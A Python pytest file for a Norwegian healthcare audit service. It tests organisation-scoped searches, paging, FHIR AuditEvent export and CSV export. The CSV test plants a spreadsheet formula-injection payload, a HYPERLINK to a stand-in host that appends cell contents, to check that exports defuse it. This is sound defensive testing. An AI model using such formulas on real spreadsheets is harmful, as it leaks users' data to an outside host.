"""Auditors' searches and exports over real gRPC, on SQLite and PostgreSQL: scoped to the auditor's
own organisation whatever the filter, filtered, paged stably while events are appended, and exported
as FHIR R4 AuditEvents (checked with the fhir.resources R4B models, whose AuditEvent is R4's) or CSV."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import grpc
import pytest
from fhir.resources.R4B.auditevent import AuditEvent
from fhir.resources.R4B.bundle import Bundle

from samhandling.audit.v1 import audit_pb2, audit_pb2_grpc
from samhandling.common.v1 import common_pb2
from services.audit import csv_export, fhir_export
from services.platform.protomap import to_timestamp
from tests.fixtures.audit_events import (
    BAERUM,
    BAERUM_AUDITOR,
    BAERUM_NURSE,
    BODO_AUDITOR,
    DOCTOR,
    NURSE,
    OTHER_PATIENT,
    PATIENT,
)
from tests.fixtures.audit_search_events import NOT_AN_ORGANISATIONS_AUDITOR, SERVICE, T0, append, event, refused
from tests.support import asserted, running_backend, settings_for

# One organisation's varied events, and a neighbour's events that match every filter as well.
BODO_EVENTS = [
    event("nurse-read", minute=0),
    event("doctor-read", DOCTOR, minute=10, patient_id=OTHER_PATIENT),
    event(
        "doctor-emergency",
        DOCTOR,
        minute=20,
        purpose_of_use=common_pb2.PURPOSE_OF_USE_ETREAT,
        access_basis=common_pb2.ACCESS_BASIS_EMERGENCY,
        flagged=True,
        justification="Bevisstløs",
    ),
    event(
        "nurse-denied",
        minute=30,
        decision=common_pb2.DECISION_DENY,
        access_basis=common_pb2.ACCESS_BASIS_RESTRICTION,
        decided_by="restriction-1",
        purpose_of_use=common_pb2.PURPOSE_OF_USE_COC,
    ),
]


def moved(original: audit_pb2.AuditEvent, key: str, actor: common_pb2.Actor) -> audit_pb2.AuditEvent:
    """The same event under another key, by another actor."""
    copy = audit_pb2.AuditEvent()
    copy.CopyFrom(original)
    copy.idempotency_key = key
    copy.actor.CopyFrom(actor)
    return copy


BAERUM_EVENTS = [moved(e, f"baerum-{e.idempotency_key}", BAERUM_NURSE) for e in BODO_EVENTS]


@pytest.fixture
def settings(tmp_path, db_url):
    return settings_for(tmp_path, audit=db_url)


async def search(stub, settings, actor=BODO_AUDITOR, **fields) -> audit_pb2.SearchEventsResponse:
    return await stub.SearchEvents(
        audit_pb2.SearchEventsRequest(**fields),
        metadata=asserted(settings, "audit", SERVICE + "SearchEvents", actor=actor),
    )


async def export(stub, settings, actor=BODO_AUDITOR, **fields) -> audit_pb2.ExportEventsResponse:
    return await stub.ExportEvents(
        audit_pb2.ExportEventsRequest(**fields),
        metadata=asserted(settings, "audit", SERVICE + "ExportEvents", actor=actor),
    )


def keys(response: audit_pb2.SearchEventsResponse) -> list[str]:
    return [e.idempotency_key for e in response.events]


FILTERS = [
    ({}, ["nurse-denied", "doctor-emergency", "doctor-read", "nurse-read"]),
    ({"patient_id": OTHER_PATIENT}, ["doctor-read"]),
    ({"actor_hpr_number": DOCTOR.hpr_number}, ["doctor-emergency", "doctor-read"]),
    ({"actor_pid": NURSE.pid}, ["nurse-denied", "nurse-read"]),
    ({"actor_orgnr_child": DOCTOR.orgnr_child}, ["doctor-emergency", "doctor-read"]),
    ({"start_time": to_timestamp(T0 + timedelta(minutes=10))}, ["nurse-denied", "doctor-emergency", "doctor-read"]),
    ({"end_time": to_timestamp(T0 + timedelta(minutes=20))}, ["doctor-read", "nurse-read"]),
    (
        {"start_time": to_timestamp(T0 + timedelta(minutes=10)), "end_time": to_timestamp(T0 + timedelta(minutes=30))},
        ["doctor-emergency", "doctor-read"],
    ),
    ({"purpose_of_use": common_pb2.PURPOSE_OF_USE_ETREAT}, ["doctor-emergency"]),
    ({"decision": common_pb2.DECISION_DENY}, ["nurse-denied"]),
    ({"access_basis": common_pb2.ACCESS_BASIS_EMERGENCY}, ["doctor-emergency"]),
    ({"flagged_only": True}, ["doctor-emergency"]),
    ({"actor_pid": NURSE.pid, "decision": common_pb2.DECISION_PERMIT}, ["nurse-read"]),
    ({"actor_hpr_number": BAERUM_NURSE.hpr_number}, []),
    ({"actor_orgnr_child": BAERUM_NURSE.orgnr_child}, []),
]


async def test_each_filter_finds_exactly_its_events_of_the_auditors_own_organisation(settings):
    async with running_backend("audit", settings) as channel:
        stub = audit_pb2_grpc.AuditServiceStub(channel)
        await append(stub, settings, *BODO_EVENTS, *BAERUM_EVENTS)
        for fields, expected in FILTERS:
            found = await search(stub, settings, filter=audit_pb2.EventFilter(**fields))
            assert keys(found) == expected, fields
            assert not found.next_page_token
        # The neighbour's auditor sees the same shapes, only their own.
        everything = await search(stub, settings, BAERUM_AUDITOR)
        assert keys(everything) == ["baerum-" + k for k in FILTERS[0][1]]
        by_pid = await search(stub, settings, BAERUM_AUDITOR, filter=audit_pb2.EventFilter(actor_pid=NURSE.pid))
        assert not by_pid.events
        # Auditors see staff person numbers and justifications (as in ListEvents).
        [emergency] = (await search(stub, settings, filter=audit_pb2.EventFilter(flagged_only=True))).events
        assert (emergency.actor.pid, emergency.justification) == (DOCTOR.pid, "Bevisstløs")
        # Exports are scoped the same way.
        csv_rows = list(
            csv.reader(
                io.StringIO(
                    (await export(stub, settings, BAERUM_AUDITOR, format=audit_pb2.EXPORT_FORMAT_CSV)).content.decode(),
                    newline="",
                )
            )
        )
        assert {row[csv_export.COLUMNS.index("actor_orgnr_parent")] for row in csv_rows[1:]} == {BAERUM}


@pytest.mark.parametrize("actor", NOT_AN_ORGANISATIONS_AUDITOR)
async def test_only_an_organisations_auditor_searches_or_exports(settings, actor):
    async with running_backend("audit", settings) as channel:
        stub = audit_pb2_grpc.AuditServiceStub(channel)
        await append(stub, settings, *BODO_EVENTS)
        # Refused before the filter is looked at: an invalid one changes nothing.
        for call in (
            search(stub, settings, actor),
            search(stub, settings, actor, filter=audit_pb2.EventFilter(patient_id="1")),
            export(stub, settings, actor, format=audit_pb2.EXPORT_FORMAT_CSV),
        ):
            code, reason, _ = await refused(call)
            assert (code, reason) == (grpc.StatusCode.PERMISSION_DENIED, "AUDIT_SCOPE_MISSING")


async def test_invalid_requests_name_their_fields(settings):
    async with running_backend("audit", settings) as channel:
        stub = audit_pb2_grpc.AuditServiceStub(channel)
        bad_filter = audit_pb2.EventFilter(
            patient_id="22750884908",
            actor_pid="123",
            actor_hpr_number="hpr",
            actor_orgnr_child="910000021",
            start_time=to_timestamp(T0),
            end_time=to_timestamp(T0),
            purpose_of_use=99,
            decision=7,
            access_basis=42,
        )
        code, reason, violations = await refused(
            search(stub, settings, filter=bad_filter, page_size=501, page_token="nope")
        )
        assert code == grpc.StatusCode.INVALID_ARGUMENT
        assert set(violations) == {
            "filter.patient_id",
            "filter.actor_pid",
            "filter.actor_hpr_number",
            "filter.actor_orgnr_child",
            "filter.end_time",
            "filter.purpose_of_use",
            "filter.decision",
            "filter.access_basis",
            "page_size",
            "page_token",
        }
        _, _, violations = await refused(export(stub, settings, limit=5001))
        assert set(violations) == {"limit", "format"}
        _, _, violations = await refused(export(stub, settings, format=9, filter=audit_pb2.EventFilter(decision=7)))
        assert set(violations) == {"filter.decision", "format"}
        _, _, violations = await refused(export(stub, settings, format=9))
        assert violations == {"format": "unknown value 9"}
        # ListEvents reads its paging through the same parser.
        _, _, violations = await refused(
            stub.ListEvents(
                audit_pb2.ListEventsRequest(patient_id="1", page_size=-1, page_token="nope"),
                metadata=asserted(settings, "audit", SERVICE + "ListEvents", actor=BODO_AUDITOR, patient_id="1"),
            )
        )
        assert set(violations) == {"patient_id", "page_size", "page_token"}


async def test_pages_neither_repeat_nor_skip_while_events_are_appended(settings):
    async with running_backend("audit", settings) as channel:
        stub = audit_pb2_grpc.AuditServiceStub(channel)
        await append(stub, settings, *(event(f"before-{i:02d}", minute=i) for i in range(20)))
        await append(stub, settings, *(event(f"baerum-{i}", BAERUM_NURSE) for i in range(5)))
        seen, token, pages = [], "", 0
        while True:
            page = await search(stub, settings, page_size=6, page_token=token)
            seen += page.events
            pages += 1
            # Newer events, ours and the neighbour's, land between every two pages.
            await append(stub, settings, event(f"during-{pages}"), event(f"baerum-during-{pages}", BAERUM_NURSE))
            token = page.next_page_token
            if not token:
                break
        assert [e.idempotency_key for e in seen] == [f"before-{i:02d}" for i in reversed(range(20))]
        assert pages == 4
        sequences = [e.sequence for e in seen]
        assert sequences == sorted(sequences, reverse=True) and len(set(sequences)) == 20
        # A new search starts at the newest event, including those appended meanwhile.
        assert keys(await search(stub, settings, page_size=4)) == [f"during-{i}" for i in (4, 3, 2, 1)]
        # Pages of a filtered search continue within the filter.
        filtered = await search(stub, settings, page_size=2, filter=audit_pb2.EventFilter(actor_pid=NURSE.pid))
        following = await search(
            stub,
            settings,
            page_size=2,
            page_token=filtered.next_page_token,
            filter=audit_pb2.EventFilter(actor_pid=NURSE.pid),
        )
        assert keys(filtered) + keys(following) == ["during-4", "during-3", "during-2", "during-1"]


async def test_a_fhir_export_is_a_bundle_of_balp_audit_events(settings):
    async with running_backend("audit", settings) as channel:
        stub = audit_pb2_grpc.AuditServiceStub(channel)
        await append(stub, settings, *BODO_EVENTS, *BAERUM_EVENTS)
        exported = await export(stub, settings, format=audit_pb2.EXPORT_FORMAT_FHIR_JSON)
        assert (exported.content_type, exported.event_count) == ("application/fhir+json", 4)
        bundle = json.loads(exported.content)
        Bundle.model_validate(bundle)
        assert bundle["type"] == "collection"
        resources = [entry["resource"] for entry in bundle["entry"]]
        for resource in resources:
            AuditEvent.model_validate(resource)
        searched = (await search(stub, settings)).events
        assert [r["id"] for r in resources] == [e.event_id for e in searched]  # newest first, as searched
        assert [r["outcome"] for r in resources] == ["4", "0", "0", "0"]
        denied, emergency, doctor_read, _ = resources
        assert denied["outcomeDesc"] == "denied by restriction-1"
        assert fhir_export.EMERGENCY_OVERRIDE in emergency["subtype"]
        assert fhir_export.EMERGENCY_OVERRIDE not in doctor_read["subtype"]
        for resource, actor in zip(resources, (NURSE, DOCTOR, DOCTOR, NURSE), strict=True):
            user, client, server, legal_entity, point_of_care = resource["agent"]
            assert (user["type"]["coding"][0]["code"], user["requestor"]) == ("IRCP", True)
            assert user["who"]["identifier"] == {"system": fhir_export.FNR, "value": actor.pid}
            assert user["purposeOfUse"][0]["coding"][0]["system"] == fhir_export.PURPOSE_OF_USE
            assert (client["type"]["coding"][0]["code"], client["requestor"]) == ("110152", False)
            assert server["type"]["coding"][0]["code"] == "110153"
            assert [legal_entity["who"]["identifier"]["value"], point_of_care["who"]["identifier"]["value"]] == [
                actor.orgnr_parent,
                actor.orgnr_child,
            ]
            patient = resource["entity"][0]
            assert (patient["type"]["code"], patient["role"]["code"]) == ("1", "1")
            assert patient["what"]["identifier"]["system"] == fhir_export.FNR
            assert resource["source"]["observer"]["display"] == "samhandling.dev/audit"
        assert doctor_read["entity"][0]["what"]["identifier"]["value"] == OTHER_PATIENT
        # A limit keeps the newest events.
        newest = json.loads((await export(stub, settings, format=audit_pb2.EXPORT_FORMAT_FHIR_JSON, limit=1)).content)
        assert [entry["resource"]["id"] for entry in newest["entry"]] == [searched[0].event_id]


async def test_a_csv_export_reads_back_and_defuses_formulas(settings):
    async with running_backend("audit", settings) as channel:
        stub = audit_pb2_grpc.AuditServiceStub(channel)
        formula, name = '=HYPERLINK("http://example.invalid/?"&A1,"klikk")', '@SUM(1), "Sjef"'
        tricky = event("tricky", minute=40, justification=formula, decided_by="-1+1", flagged=True)
        tricky.actor.name = name
        await append(stub, settings, *BODO_EVENTS, tricky)
        nurse = audit_pb2.EventFilter(actor_pid=NURSE.pid)
        exported = await export(stub, settings, format=audit_pb2.EXPORT_FORMAT_CSV, filter=nurse)
        assert (exported.content_type, exported.event_count) == ("text/csv", 3)
        header, *rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8"), newline="")))
        assert tuple(header) == csv_export.COLUMNS
        records = [dict(zip(header, row, strict=True)) for row in rows]
        searched = (await search(stub, settings, filter=nurse)).events
        assert [r["event_id"] for r in records] == [e.event_id for e in searched]
        assert [r["sequence"] for r in records] == [str(e.sequence) for e in searched]
        defused, denied, read = records
        assert (defused["justification"], defused["decided_by"], defused["actor_name"]) == (
            "'" + formula,
            "'-1+1",
            "'" + name,
        )
        assert (defused["flagged"], denied["decision"], denied["access_basis"]) == ("true", "DENY", "RESTRICTION")
        assert (read["patient_id"], read["actor_hpr_number"], read["occurred_at"]) == (
            PATIENT,
            NURSE.hpr_number,
            "2026-01-05T08:00:00Z",
        )
